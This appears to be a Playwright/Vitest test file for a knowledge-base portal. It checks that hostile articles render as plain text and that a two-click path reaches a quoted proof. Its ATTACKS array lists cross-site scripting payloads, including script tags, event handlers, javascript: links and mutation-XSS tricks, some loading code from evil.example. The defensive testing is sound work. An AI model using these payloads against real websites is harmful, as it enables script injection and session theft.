// The pages of the portal in a real browser: hostile articles stay text, and two clicks lead to a proof.

import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import type { Browser, BrowserContext, Page } from 'playwright-core'
import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest'
import { articleText } from '../engine/build-kb.ts'
import { launchChromium, NO_BROWSER, type Watched, watch } from './chromium.ts'
import { startService, type TestService } from './service.ts'

const ATTACKS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<a href="javascript:alert(1)">here</a>',
  '</pre></section></article><script src=//evil.example/a.js></script>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '![picture](https://evil.example/a.png) [link](javascript:alert(1)) <iframe srcdoc="<script>alert(1)</script>">',
  '"><style>@import "//evil.example/a.css"</style><base href="//evil.example/"><form action="//evil.example/">',
]

const HOSTILE_MARKDOWN = `---
title: '"><script>alert(1)</script> in a title'
---
# "><script>alert(1)</script> in a title

## SYMPTOMS

${ATTACKS.join('\n\n')}

| ${ATTACKS[1]} | file |
|---|---|
| ${ATTACKS[2]} | [x](javascript:alert(1)) |
`

const HOSTILE_TEXT = articleText({
  number: 'Q100009',
  title: `Hostile ${ATTACKS[0]}`,
  product: `Example ${ATTACKS[1]} Server 4.0`,
  keywords: '"><script>alert(1)</script>',
  sections: {
    SYMPTOMS: ATTACKS.join('\n\n'),
    RESOLUTION: `See Q100010 ${ATTACKS[1]}\n\n   Q100011 ${ATTACKS[0]}`,
  },
})

describe.skipIf(NO_BROWSER !== '')(`the portal ${NO_BROWSER}`, () => {
  const folder = mkdtempSync(join(tmpdir(), 'quarry-hostile-'))
  let browser: Browser
  let hostile: TestService
  let service: TestService
  let contexts: BrowserContext[] = []

  beforeAll(async () => {
    writeFileSync(join(folder, 'hostile.md'), HOSTILE_MARKDOWN)
    writeFileSync(join(folder, 'Q100009.txt'), HOSTILE_TEXT)
    hostile = await startService({}, folder)
    service = await startService()
    browser = await launchChromium()
  })
  afterEach(async () => {
    for (const context of contexts) await context.close()
    contexts = []
  })
  afterAll(async () => {
    await browser.close()
    await hostile.close()
    await service.close()
    rmSync(folder, { recursive: true, force: true })
  })

  const open = async (
    url: string,
    options: Parameters<Browser['newContext']>[0] = {},
  ): Promise<{ page: Page; watched: Watched; dialogs: string[] }> => {
    const context = await browser.newContext(options)
    contexts.push(context)
    const page = await context.newPage()
    const watched = watch(page)
    const dialogs: string[] = []
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message())
      void dialog.dismiss()
    })
    await page.goto(url, { waitUntil: 'networkidle' })
    return { page, watched, dialogs }
  }

  test.for(['/articles/hostile', '/articles/Q100009', '/articles/Q100009?quote=0-4000'])(
    'what a hostile article holds is text on %s',
    async (path) => {
      const { page, watched, dialogs } = await open(`${hostile.url}${path}`)
      expect(await page.locator('h1').first().textContent()).toContain('alert(1)')
      expect(
        await page
          .locator('main script, main img, main iframe, .body form, form:not([action^="/"])')
          .count(),
      ).toBe(0)
      expect(await page.locator('[href^="javascript" i]').count()).toBe(0)
      for (const link of await page.locator('main .body a').all()) {
        expect((await link.getAttribute('href')) ?? '').not.toMatch(/^javascript/i)
      }
      expect(dialogs).toEqual([])
      expect(watched.complaints).toEqual([])
      expect([...watched.hosts]).toEqual([new URL(hostile.url).host])
    },
  )

  test.for([
    '/',
    '/products',
    `/products/${encodeURIComponent(`Microsoft Example ${ATTACKS[1]} Server`)}`,
    `/releases?product=${encodeURIComponent(ATTACKS[0] ?? '')}&build=1`,
    '/knowledge-base',
    '/knowledge-base/links',
    '/knowledge-base/missing',
    '/knowledge-base/lint',
  ])('what hostile articles bring into lists is text on %s', async (path) => {
    const { page, watched, dialogs } = await open(`${hostile.url}${path}`)
    const alien = 'main :is(script, img, iframe, math, style, [onerror], [onload])'
    expect(await page.locator(alien).count()).toBe(0)
    expect(await page.locator('[href^="javascript" i]').count()).toBe(0)
    expect(dialogs).toEqual([])
    expect(watched.complaints.filter((line) => !line.includes('404'))).toEqual([])
    expect([...watched.hosts]).toEqual([new URL(hostile.url).host])
  })

  test('two clicks lead from the first page to the answer and its proof', async () => {
    const { page, watched } = await open(`${service.url}/`)
    await page.locator('.try a').first().click()
    await page.locator('.answer sup a').first().click()
    const mark = page.locator('mark#quote')
    expect(await mark.isVisible()).toBe(true)
    expect(await page.locator('.passage blockquote').textContent()).toBe(
      (await mark.textContent())?.replace(/\s+/g, ' '),
    )
    expect(watched.complaints).toEqual([])
  })
})
